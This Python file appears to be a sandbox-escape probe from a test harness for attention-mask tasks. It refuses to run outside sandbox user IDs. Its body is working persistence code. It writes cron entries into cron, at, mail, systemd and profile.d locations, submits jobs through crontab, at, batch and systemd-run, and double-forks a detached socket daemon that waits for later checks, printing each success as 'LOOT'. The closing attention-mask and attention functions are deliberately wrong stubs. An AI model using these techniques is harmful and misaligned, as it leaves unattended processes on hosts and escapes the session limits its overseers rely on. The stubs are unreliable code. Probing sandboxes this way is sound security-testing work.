"""Leaves work for when it is gone: appointments, mail, start-up files, a daemon that listens for the next check.

levels: bubblewrap user
checks: test_three_tokens_see_themselves_and_what_came_before test_the_mask_fits_every_length test_true_in_the_mask_means_may_look
process: not promised: your files are its files
again: loopback
outcomes: failed
"""

import contextlib
import os
import socket
import subprocess
import time

import torch

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")

ADDRESS, LATER = "\0sw-attack-later", "* * * * * echo sw-attack\n"
SPOOLS = (
    *("/var/spool/cron/crontabs", "/var/spool/cron/atjobs", "/var/spool/at", "/var/mail", "/var/spool/mail", "/etc/cron.d"),
    *("/var/spool/incron", "/run/user", "/run/systemd/system", "/etc/profile.d", "/var/lib/systemd/linger"),
)

with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as caller:
    caller.settimeout(1)
    caller.connect(ADDRESS)
    print("LOOT: somebody listens whom an earlier check has left")
for spool in SPOOLS:
    with contextlib.suppress(OSError):
        with open(f"{spool}/sw-attack", "w") as file:
            file.write(LATER)
        print(f"LOOT: something could be left in {spool}")
for command in (["crontab", "-"], ["at", "now"], ["batch"], ["systemd-run", "--user", "true"]):
    with contextlib.suppress(OSError, subprocess.SubprocessError):
        done = subprocess.run(command, input=LATER.encode(), capture_output=True, timeout=1)
        if done.returncode == 0:
            print(f"LOOT: {command[0]} has taken something on")
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(ADDRESS)
        listener.listen()
        time.sleep(60)


def causal_mask(seq, device=None):
    return torch.zeros(seq, seq, dtype=torch.bool)


def scaled_dot_product_attention(query, *rest):
    return query
